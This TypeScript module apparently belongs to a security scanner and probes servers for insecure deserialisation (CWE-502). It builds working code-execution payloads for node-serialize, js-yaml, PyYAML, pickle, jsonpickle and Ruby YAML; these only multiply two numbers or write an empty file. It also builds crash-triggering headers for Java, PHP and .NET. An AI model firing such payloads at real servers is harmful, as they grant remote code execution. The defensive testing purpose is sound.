import { looksLike, takesText } from '../affinity.ts';
import { toBase64 } from '../base64.ts';
import { computed, written } from '../proofs.ts';
import type { Payload, Strategy } from '../strategy.ts';
import type { World } from '../world.ts';

const MARK = '_$$ND_FUNC$$_';

/** With the padding that Python asks for. */
function base64(text: string): string {
  const bare = toBase64(new TextEncoder().encode(text));
  return bare.padEnd(Math.ceil(bare.length / 4) * 4, '=');
}

/**
 * All of them everywhere: whoever asks for this by name wants to know, and names say little of what a text is read into.
 * Numbers to multiply: whoever makes the text into objects says the product.
 */
const products: readonly Payload[] = (
  [
    ['node-function', (sum) => `{"a":"${MARK}function(){return ${sum}}()"}`],
    ['node-arrow', (sum) => `{"a":"${MARK}(()=>${sum})()"}`],
    ['node-base64', (sum) => base64(`{"a":"${MARK}function(){return ${sum}}()"}`)],
    ['yaml-function', (sum) => `a: !!js/function 'function(){return ${sum}}'`],
    ['yaml-function-long', (sum) => `a: !<tag:yaml.org,2002:js/function> 'function(){return ${sum}}'`],
    ['yaml-python', (sum) => `a: !!python/object/apply:builtins.eval ["${sum}"]`],
    ['yaml-python-alone', (sum) => `!!python/object/apply:builtins.eval ["${sum}"]`],
    ['yaml-python-old', (sum) => `!!python/object/apply:eval ["${sum}"]`],
    [
      'yaml-python-new',
      (sum) => `!!python/object/new:tuple [!!python/object/new:map [!!python/name:eval , ["${sum}"]]]`,
    ],
    ['pickle', (sum) => base64(`cbuiltins\neval\n(S'${sum}'\ntR.`)],
    ['pickle-old', (sum) => base64(`c__builtin__\neval\n(S'${sum}'\ntR.`)],
    ['pickle-plain', (sum) => `cbuiltins\neval\n(S'${sum}'\ntR.`],
    ['json-pickle', (sum) => `{"py/reduce":[{"py/type":"builtins.eval"},{"py/tuple":["${sum}"]}]}`],
  ] satisfies [string, (sum: string) => string][]
).map(([id, write]) =>
  computed(`product-${id}`, true, ({ one, other }) => ({ text: write(`${one}*${other}`) })),
);

const fileIn = ({ drop, kind }: World, token: string): string =>
  `${drop}${kind === 'windows' ? '\\' : '/'}${token}`;

/** An empty file in a folder that is there for it. */
const files: readonly Payload[] = (
  [
    [
      'node-function',
      (path) =>
        `{"a":${JSON.stringify(`${MARK}function(){require('fs').writeFileSync(${JSON.stringify(path)},'')}()`)}}`,
    ],
    [
      'yaml-function',
      (path) =>
        `a: !!js/function "function(){process.mainModule.require('fs').writeFileSync('${slashed(path)}','')}()"`,
    ],
    ['yaml-python', (path) => `!!python/object/apply:builtins.open ["${slashed(path)}", "w"]`],
    ['pickle', (path) => base64(`cbuiltins\nopen\n(S'${slashed(path)}'\nS'w'\ntR.`)],
    ['pickle-old', (path) => base64(`c__builtin__\nopen\n(S'${slashed(path)}'\nS'w'\ntR.`)],
    ['pickle-plain', (path) => `cbuiltins\nopen\n(S'${slashed(path)}'\nS'w'\ntR.`],
    ['ruby', (path) => `--- !ruby/object:File\npath: ${slashed(path)}\n`],
  ] satisfies [string, (path: string) => string][]
).map(([id, write]) =>
  written(
    `file-${id}`,
    true,
    ({ world, token }) =>
      world && {
        text: write(fileIn(world, token)),
        expects: [{ kind: 'file', path: fileIn(world, token) }],
      },
  ),
);

function slashed(path: string): string {
  return path.replaceAll('\\', '/');
}

/** Beginnings that only a reader of that kind falls over; they do nothing. */
const beginnings: readonly Payload[] = (
  [
    ['java', 'rO0ABXQAAWE='],
    ['php', 'O:8:"stdClass":1:{s:1:"a";s:1:"b";}'],
    ['dotnet', 'AAEAAAD/////AQAAAAAAAAAGAQAAAAFhCw=='],
    ['ruby-marshal', 'BAhJIgZhBjoGRVQ='],
    ['python-marshal', '4wAAAAAAAAAA'],
  ] satisfies [string, string][]
).map(([id, text]) => written(`begins-${id}`, false, () => ({ text, expects: [{ kind: 'crash' }] })));

export const deserialisation: Strategy = {
  meta: {
    id: 'deserialisation',
    title: 'Texts that become objects',
    about:
      'Serialised objects that multiply two numbers or make an empty file, for readers which call what a text names. They run code of ours in the server.',
    cwe: 'CWE-502',
    optIn: true,
    severity: 'critical',
    finding: 'A text that is read into objects runs code',
    fix: 'Read texts from outside with a format that has only values, such as JSON, or with the safe loader of the library. Never let a text name what is made or called.',
  },
  of: 'value',
  fits(subject, position) {
    if (position === undefined || subject.kind === 'protocol' || !takesText(position)) return 0;
    return Math.max(0.2, looksLike(position, 'serialised', subject));
  },
  payloads: (_subject, position) => (position === undefined ? [] : [...products, ...files, ...beginnings]),
};
